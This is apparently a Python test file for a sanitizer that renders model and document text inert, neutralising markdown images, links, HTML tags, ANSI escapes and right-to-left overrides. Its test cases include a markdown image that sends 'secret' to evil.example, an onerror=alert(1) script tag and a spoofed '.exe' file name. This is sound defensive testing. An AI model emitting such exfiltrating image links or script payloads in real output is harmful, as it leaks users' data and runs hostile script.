"""Text of models and documents is shown without effect: no image, link, tag or control sign acts."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from search.inert import Inert, inert

TEXT = st.text(alphabet="![]()<>/a:b \n.`\x1b\u202e", max_size=60)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![logo](https://evil.example/?q=secret)", "(image: logo `https://evil.example/?q=secret`)"),
        ("![](https://evil.example/x.png)", "(image:  `https://evil.example/x.png`)"),
        ("![logo][ref]", "(image: logo)"),
        ("[bank](https://evil.example/a_(b))", "bank (`https://evil.example/a_(b)`)"),
        ("[bank](<https://evil.example> 'title')", "bank (`https://evil.example`)"),
        ("[1]: https://evil.example/x", "1: `https://evil.example/x`"),
        ("<img src=x onerror=alert(1)>", "<\u200bimg src=x onerror=alert(1)>"),
        ("a \x1b[31mred\x1b[0m \u202egnp.exe", "a [31mred[0m gnp.exe"),
        ("It is so [1][2]. 3 < 4, a[i](x) stays readable.", "It is so [1][2]. 3 < 4, ai (`x`) stays readable."),
    ],
)
def test_what_could_act_does_not(text: str, shown: str) -> None:
    """Its words and addresses stay to be read."""
    assert inert(text) == shown


@given(TEXT)
def test_nothing_that_acts_is_left(text: str) -> None:
    """Whatever it is made of."""
    assert not re.search(r"!\[[^\]]*\]\([^()\s]+\)|<[a-z/!?]|[\x1b\u202e]", inert(text))


@example(["<!"])
@example(["<\u202e", "a"])
@example(["![" + "a" * 3000, "](b:x)"])
@example(["![a](" + "b" * 3000, "x)"])
@example(["![a\n\n", "](b:x)"])
@example(["<", "![a"])
@example(["<![", "b"])
@given(st.lists(TEXT, max_size=6))
def test_pieces_give_no_image_either(pieces: list[str]) -> None:
    """A link or a tag that comes in pieces is held until it is whole."""
    shown = Inert()
    whole = "".join([*(shown.feed(piece) for piece in pieces), shown.rest()])
    assert not re.search(r"!\[[^\]\n]*\]\([^()\s]+\)|<[a-z/!?]|[\x1b\u202e]", whole)


def test_pieces_are_shown_as_soon_as_they_are_harmless() -> None:
    """Only what may become a link waits, and at the end nothing does."""
    shown = Inert()
    assert shown.feed("So it is ") == "So it is "
    assert shown.feed("[") == ""
    assert shown.feed("1]. And ![x](ht") == "[1]. And "
    assert shown.feed("tp://evil.example)") == "(image: x `http://evil.example`)"
